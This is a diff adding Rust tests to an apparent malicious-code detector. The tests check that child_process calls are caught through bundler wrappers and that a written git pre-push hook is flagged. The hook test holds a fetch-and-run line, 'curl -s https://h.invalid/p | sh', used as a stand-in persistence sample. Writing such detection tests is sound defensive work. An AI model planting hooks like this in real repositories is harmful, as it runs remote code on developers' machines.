@@ -270,3 +270,25 @@ fn settings_that_a_search_finds_are_sent() {
     has_not(Language::Python, &code.replace("'.env'", "'.txt'"), "flow-credentials-sent");
     has_not(Language::Python, &code.replace("https://h.invalid", "http://localhost"), "flow-credentials-sent");
 }
+
+#[test]
+fn modules_in_the_hands_of_bundlers_are_still_modules() {
+    let helper = "var __create = Object.create; var __getProtoOf = Object.getPrototypeOf; \
+                  var __copyProps = (to, from) => { for (let key of Object.getOwnPropertyNames(from)) Object.defineProperty(to, key, { get: () => from[key] }); return to; };\n\
+                  var __toESM = (mod, node, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, \
+                  __copyProps(node || !mod || !mod.__esModule ? Object.defineProperty(target, 'default', { value: mod, enumerable: true }) : target, mod));\n";
+    let code = format!("{helper}var c = __toESM(require('child_process'), 1); c.default.exec('echo hi')");
+    assert_eq!(command(Language::JavaScript, &code), "echo hi");
+    let code = format!("{helper}var c = __toESM(require('child_process')); (0, c.exec)('echo hi')");
+    assert_eq!(command(Language::JavaScript, &code), "echo hi");
+    let code = "function wrap(e) { var n = Object.create(null); Object.keys(e).forEach((k) => { n[k] = e[k] }); n.default = e; return Object.freeze(n) }\n\
+                var c = wrap(require('child_process')); c.exec('echo hi')";
+    assert_eq!(command(Language::JavaScript, code), "echo hi");
+}
+
+#[test]
+fn hooks_of_repositories_that_fetch_what_they_run() {
+    let code = "require('fs').writeFileSync('/x/.git/hooks/pre-push', '#!/bin/sh\\ncurl -s https://h.invalid/p | sh\\n')";
+    has(Language::JavaScript, code, "flow-persists");
+    has_not(Language::JavaScript, &code.replace("curl -s https://h.invalid/p | sh", "npm test"), "flow-persists");
+}
